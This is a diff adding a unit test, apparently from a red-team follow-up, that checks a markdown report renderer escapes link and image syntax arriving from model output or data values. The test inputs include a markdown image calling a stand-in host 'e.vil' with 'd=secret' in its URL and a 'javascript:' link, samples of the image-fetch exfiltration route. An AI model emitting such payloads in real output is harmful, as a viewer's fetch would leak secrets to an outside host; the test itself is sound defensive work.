@@ -100,6 +100,19 @@ def test_warehouse_text_is_escaped_in_the_markdown_report_and_the_slack_message(
     msg = summary_message(r)
     text = " ".join(b["text"]["text"] for b in msg["blocks"] if "text" in b)
     assert "<!channel>" not in text and "<https://" not in text and "&lt;!channel&gt;" in text
+    # link and image syntax from a model or a value shows as written: a viewer would fetch the image's URL (red
+    # team 10, session 25)
+    from assay.models import Recommendation
+
+    r = DiscoveryResult(run_id="abcdef124", project_id="p", domain="d",
+                        insights=[insight("west has ![](https://e.vil/p.png?d=secret) more", "see [x](javascript:1)")],
+                        recommendations=[Recommendation(id="rec-1", title="Act", effort="![](https://e.vil/e.png)",
+                                                        related_insight_ids=["[a](https://e.vil)"])])
+    md = render_markdown(r)
+    import re
+
+    assert not re.search(r"(?<!\\)\]\(", md)  # no link or image: every bracket escaped
+    assert "!\\[\\](https://e.vil/p.png?d=secret)" in md
 
 
 def test_columns_named_with_vega_syntax_are_charted():
